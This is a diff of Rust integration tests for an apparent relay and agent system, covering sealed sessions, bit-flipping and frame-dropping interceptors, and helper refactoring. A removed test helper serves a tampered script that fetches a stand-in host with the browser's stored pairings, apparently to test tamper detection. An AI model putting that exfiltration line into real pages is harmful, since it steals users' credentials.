@@ -12,10 +12,11 @@ use tokio_tungstenite::tungstenite::Message;
 use voxa::agent::LinkEvent;
 use voxa::protocol::{ErrorCode, RelayPage};
 
-use crate::sealed::{flip_one_bit, Mitm, Way};
 use crate::support::audit::audit_lines;
 use crate::support::browser::{Browser, Scheme};
 use crate::support::harness::*;
+use crate::support::mitm::{altering_front, drop_next_up, flip_one_bit, Hook, Mitm, Way};
+use crate::support::sealed::{seal_mark, session_counts};
 
 /// Text of the terminal output, as shown.
 const TERMINAL: &str = "#commands-out";
@@ -127,20 +128,6 @@ pub(crate) fn assert_sealed_after_hello(capture: &[(Way, Message)], plaintexts: 
     assert!(hello_ok, "the page's hello_ok crossed the relay");
 }
 
-/// The connection's seal mark, as shown (empty when hidden).
-pub(crate) async fn seal_mark(browser: &Browser) -> String {
-    let shown = "const mark = document.getElementById('seal-mark'); return mark.hidden ? '' : mark.textContent;";
-    browser.script(shown, vec![]).await.as_str().unwrap_or_default().to_owned()
-}
-
-/// Sealed and plain sessions the agent holds, as its `status` says.
-pub(crate) async fn session_counts(agent: &TestAgent) -> (u64, u64) {
-    let mut local = agent.local_client().await;
-    send(&mut local, json!({"type":"status"})).await;
-    let status = recv_type(&mut local, "status").await;
-    (status["sealed_sessions"].as_u64().unwrap(), status["plain_sessions"].as_u64().unwrap())
-}
-
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_page_seals_its_session_with_the_real_agent_through_the_real_relay_and_runs_a_tool() {
     let Some(browser) = Browser::start().await else { return };
@@ -191,7 +178,7 @@ async fn the_page_seals_its_session_with_the_real_agent_through_the_real_relay_a
 }
 
 /// A hook that flips one bit of every sealed frame going `way` once `armed`.
-fn flip_when(armed: Arc<AtomicBool>, way: Way) -> crate::sealed::Hook {
+fn flip_when(armed: Arc<AtomicBool>, way: Way) -> Hook {
     Box::new(move |through, message| {
         if through == way && message.is_binary() && armed.load(Ordering::SeqCst) {
             vec![flip_one_bit(message)]
@@ -258,7 +245,7 @@ async fn a_relay_that_drops_the_pages_cancel_ends_the_session_within_one_tick_an
     let mut agent = TestAgent::start(Some(relay.url())).await;
     let status = agent.agent.ctx.status.clone();
     let (armed, dropped) = (Arc::new(AtomicBool::new(false)), Arc::new(AtomicUsize::new(0)));
-    let hook = crate::sealed_ticks::drop_next_up(armed.clone(), dropped.clone());
+    let hook = drop_next_up(armed.clone(), dropped.clone());
     let mitm = Mitm::start(relay.addr, agent.code(), hook).await;
     browser.pair(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
     browser.wait_connection("online").await;
@@ -290,51 +277,6 @@ async fn a_relay_that_drops_the_pages_cancel_ends_the_session_within_one_tick_an
     browser.wait_connection("online").await;
     assert_eq!(seal_mark(&browser).await, "sealed");
     browser.close().await;
-}
-
-/// A front for a relay that serves one file of the page altered and passes everything else on,
-/// one request per connection (a kept-alive request is forwarded with `Connection: close`, so
-/// every request passes through the front).
-pub(crate) async fn altering_front(relay: std::net::SocketAddr, altered: &'static str) -> std::net::SocketAddr {
-    use tokio::io::{AsyncReadExt, AsyncWriteExt};
-    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
-    let addr = listener.local_addr().unwrap();
-    tokio::spawn(async move {
-        while let Ok((mut tcp, _)) = listener.accept().await {
-            tokio::spawn(async move {
-                let mut head = Vec::new();
-                let mut byte = [0u8; 1];
-                while !head.ends_with(b"\r\n\r\n") && head.len() < 8192 {
-                    if tcp.read(&mut byte).await.unwrap_or(0) == 0 {
-                        return;
-                    }
-                    head.push(byte[0]);
-                }
-                if head.starts_with(format!("GET {altered} ").as_bytes()) {
-                    let body = "fetch('https://elsewhere.example/?' + localStorage.getItem('voxa.pairings'));";
-                    let answer =
-                        format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len());
-                    let _ = tcp.write_all(answer.as_bytes()).await;
-                    return;
-                }
-                let Ok(mut upstream) = tokio::net::TcpStream::connect(relay).await else { return };
-                let text = String::from_utf8_lossy(&head);
-                let head = if text.to_ascii_lowercase().contains("\r\nupgrade:") {
-                    head
-                } else {
-                    let kept: Vec<&str> = text
-                        .split("\r\n")
-                        .filter(|line| !line.to_ascii_lowercase().starts_with("connection:"))
-                        .collect();
-                    kept.join("\r\n").replacen("\r\n", "\r\nConnection: close\r\n", 1).into_bytes()
-                };
-                if upstream.write_all(&head).await.is_ok() {
-                    let _ = tokio::io::copy_bidirectional(&mut tcp, &mut upstream).await;
-                }
-            });
-        }
-    });
-    addr
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
